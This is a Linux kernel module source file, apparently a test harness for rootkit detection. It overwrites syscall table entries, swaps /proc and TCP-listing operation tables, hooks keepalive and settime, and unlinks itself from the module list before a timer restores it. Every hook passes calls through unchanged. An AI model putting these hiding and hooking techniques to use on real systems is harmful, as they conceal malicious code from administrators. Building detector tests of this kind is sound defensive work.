// SPDX-License-Identifier: GPL-2.0
/* Attacks on tables of functions and on the list of modules. */
#include "intruder.h"
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/time64.h>
#include <net/tcp.h>

#define INTRUDER_GETTID    178
#define INTRUDER_GETTID_32 224
#define INTRUDER_CONSTANTS (8ul << 20) /* bytes behind text */

/* ---- tables of functions: an entry leads to a function of this module, which calls the former
 * ---- */

static unsigned long intruder_entry; /* where it stands */
static void *intruder_former;

static int intruder_hook(unsigned long entry, void *function)
{
	intruder_entry = entry;
	intruder_former = *(void **)entry;
	return intruder_write(entry, &function, sizeof(function));
}

void intruder_hook_undo(void)
{
	intruder_undone = *(void **)intruder_entry == intruder_former;
	if (!intruder_undone)
		(void)intruder_write(intruder_entry, &intruder_former, sizeof(intruder_former));
}

/* A probe that isn't armed knows where a function is, and changes no text. */
unsigned long intruder_function(const char *name)
{
	struct kprobe probe = {.symbol_name = name, .flags = KPROBE_FLAG_DISABLED};
	unsigned long at;

	if (register_kprobe(&probe))
		return 0;
	at = (unsigned long)probe.addr;
	unregister_kprobe(&probe);
	return at;
}

/* Behind text, where constants are: the place of a word, and of the one behind it. 0: it isn't
 * there. */
static unsigned long intruder_constant(unsigned long first, unsigned long second)
{
	const unsigned long *at = (const unsigned long *)PAGE_ALIGN((unsigned long)panic);
	unsigned long i;

	for (i = 0; first && i < INTRUDER_CONSTANTS / sizeof(*at); i++)
		if (at[i] == first && (!second || at[i + 1] == second))
			return (unsigned long)&at[i];
	return 0;
}

static long intruder_called(const struct pt_regs *regs)
{
	return ((long (*)(const struct pt_regs *))intruder_former)(regs);
}

/* The table of calls begins with these two; the number is that of the call. */
static int intruder_hook_call(const char *first, const char *second, unsigned long number)
{
	const unsigned long table =
	    intruder_constant(intruder_function(first), intruder_function(second));

	if (!table)
		return -ENOENT;
	return intruder_hook(table + number * sizeof(table), intruder_called);
}

int intruder_call(void)
{
	return intruder_hook_call("__arm64_sys_io_setup", "__arm64_sys_io_destroy",
	                          INTRUDER_GETTID);
}

int intruder_compat(void)
{
	return intruder_hook_call("__arm64_sys_restart_syscall", "__arm64_sys_exit",
	                          INTRUDER_GETTID_32);
}

static int intruder_listed(struct file *file, struct dir_context *context)
{
	return ((int (*)(struct file *, struct dir_context *))intruder_former)(file, context);
}

int intruder_proc(void)
{
	struct file *proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
	int error;

	if (IS_ERR(proc))
		return PTR_ERR(proc);
	error = intruder_hook((unsigned long)&proc->f_op->iterate_shared, intruder_listed);
	filp_close(proc, NULL);
	return error;
}

/* A file or directory that is open, by a table of this module's that says the same. */
static struct file *intruder_opened;
static struct file_operations intruder_operations;
static struct super_operations intruder_system;

static int intruder_open(const char *path)
{
	intruder_opened = filp_open(path, O_RDONLY, 0);
	return PTR_ERR_OR_ZERO(intruder_opened);
}

static int intruder_operate(const char *path)
{
	const int error = intruder_open(path);
	struct inode *inode;

	if (error)
		return error;
	inode = file_inode(intruder_opened);
	intruder_former = (void *)inode->i_fop;
	intruder_operations = *inode->i_fop;
	intruder_operations.owner = NULL;
	inode->i_fop = &intruder_operations;
	return 0;
}

int intruder_directory(void)
{
	return intruder_operate("/proc");
}

int intruder_file(void)
{
	return intruder_operate("/proc/version");
}

void intruder_directory_undo(void)
{
	struct inode *inode = file_inode(intruder_opened);

	intruder_undone = inode->i_fop != &intruder_operations;
	inode->i_fop = intruder_former;
	filp_close(intruder_opened, NULL);
}

int intruder_super(void)
{
	const int error = intruder_open("/proc");
	struct super_block *system;

	if (error)
		return error;
	system = file_inode(intruder_opened)->i_sb;
	intruder_former = (void *)system->s_op;
	intruder_system = *system->s_op;
	system->s_op = &intruder_system;
	return 0;
}

void intruder_super_undo(void)
{
	struct super_block *system = file_inode(intruder_opened)->i_sb;

	intruder_undone = system->s_op != &intruder_system;
	system->s_op = intruder_former;
	filp_close(intruder_opened, NULL);
}

static int intruder_shown_as(struct seq_file *file, void *socket)
{
	return ((int (*)(struct seq_file *, void *))intruder_former)(file, socket);
}

static void *intruder_next_one(struct seq_file *file, void *socket, loff_t *at)
{
	return ((void *(*)(struct seq_file *, void *, loff_t *))intruder_former)(file, socket, at);
}

static int intruder_hook_list(bool shows)
{
	struct file *list = filp_open("/proc/net/tcp", O_RDONLY, 0);
	const struct seq_operations *does;
	int error;

	if (IS_ERR(list))
		return PTR_ERR(list);
	does = ((struct seq_file *)list->private_data)->op;
	error = shows ? intruder_hook((unsigned long)&does->show, intruder_shown_as)
	              : intruder_hook((unsigned long)&does->next, intruder_next_one);
	filp_close(list, NULL);
	return error;
}

int intruder_show_list(void)
{
	return intruder_hook_list(true);
}

int intruder_next(void)
{
	return intruder_hook_list(false);
}

/* ---- this module: nobody can unload what isn't in the list, so it comes back by itself ---- */

static struct list_head *intruder_before;              /* this module in the list */
static void (*intruder_insert)(struct module *module); /* into the tree, if it isn't there */

static void intruder_show(void)
{
	if (intruder_entry)
		intruder_hook_undo();
	if (intruder_insert)
		intruder_insert(THIS_MODULE);
	if (THIS_MODULE->list.prev == LIST_POISON2)
		list_add_rcu(&THIS_MODULE->list, intruder_before);
	else
		intruder_undone = 1;
	pr_alert("intruder: it is in the list again\n");
}

/* A thread, as rules find timers and delayed work that lead to a module which isn't listed. */
static struct task_struct *intruder_shows;

static int intruder_show_later(void *nothing)
{
	long left = intruder_hidden * HZ;

	while (left > 0 && !kthread_should_stop())
		left = schedule_timeout_interruptible(left);
	intruder_show();
	return 0;
}

int intruder_hide(void)
{
	intruder_shows = kthread_create(intruder_show_later, NULL, "intruder");
	if (IS_ERR(intruder_shows))
		return PTR_ERR(intruder_shows);
	get_task_struct(intruder_shows);
	intruder_before = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	wake_up_process(intruder_shows);
	return 0;
}

/* Its part for the start is out, too: without a size the kernel doesn't take that out again. */
int intruder_vanish(void)
{
	void (*remove)(struct module * module) = (void *)intruder_function("mod_tree_remove");

	intruder_insert = (void *)intruder_function("mod_tree_insert");
	if (!remove || !intruder_insert)
		return -ENOENT;
	remove(THIS_MODULE);
	THIS_MODULE->init_layout.size = 0;
	return intruder_hide();
}

void intruder_hide_undo(void)
{
	(void)kthread_stop(intruder_shows);
	put_task_struct(intruder_shows);
}

static void intruder_kept_alive(struct sock *sock, int value)
{
	((void (*)(struct sock *, int))intruder_former)(sock, value);
}

int intruder_tcp(void)
{
	const int error = intruder_hook((unsigned long)&tcp_prot.keepalive, intruder_kept_alive);

	return error ? error : intruder_hide();
}

/* A hook that is called when somebody sets the time. */
static int intruder_may_set(const struct timespec64 *time, const struct timezone *zone)
{
	return ((int (*)(const struct timespec64 *, const struct timezone *))intruder_former)(time,
	                                                                                      zone);
}

int intruder_settime(void)
{
	const unsigned long hook = intruder_constant(intruder_function("cap_settime"), 0);

	return hook ? intruder_hook(hook, intruder_may_set) : -ENOENT;
}

int intruder_hooked(void)
{
	const int error = intruder_settime();

	return error ? error : intruder_hide();
}

/* ---- the list of modules doesn't lead back to this one ---- */

int intruder_back(void)
{
	intruder_before = THIS_MODULE->list.prev;
	THIS_MODULE->list.prev = &THIS_MODULE->list;
	return 0;
}

void intruder_back_undo(void)
{
	intruder_undone = THIS_MODULE->list.prev != &THIS_MODULE->list;
	if (!intruder_undone)
		THIS_MODULE->list.prev = intruder_before;
}
